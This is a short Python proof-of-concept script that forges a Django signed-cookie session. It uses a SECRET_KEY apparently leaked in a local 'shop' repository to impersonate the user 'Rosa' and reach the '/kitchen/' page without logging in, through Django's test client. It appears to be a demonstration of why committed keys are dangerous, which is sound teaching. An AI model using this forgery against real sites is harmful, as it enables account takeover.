"""What a stranger can do who has read the repository once. Run it in ~/shop: python ~/guest.py"""

import os
import sys

sys.path.insert(0, os.getcwd())
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "shop.settings")

import django
from django.conf import settings
from django.core import signing
from django.test import Client

LEAKED = "django-insecure-w7rye2loaf9kneads4hours6rest1bake8cool3slice5"
SALT = "django.contrib.sessions.backends.signed_cookies"

django.setup()
settings.ALLOWED_HOSTS = ["testserver"]

# No password, no login: a cookie that says "I am Rosa", signed with the key from the repository.
guest = Client()
guest.cookies[settings.SESSION_COOKIE_NAME] = signing.dumps({"baker": "Rosa"}, key=LEAKED, salt=SALT)
answer = guest.get("/kitchen/", secure=True)
print(answer.status_code, answer.content.decode().strip())
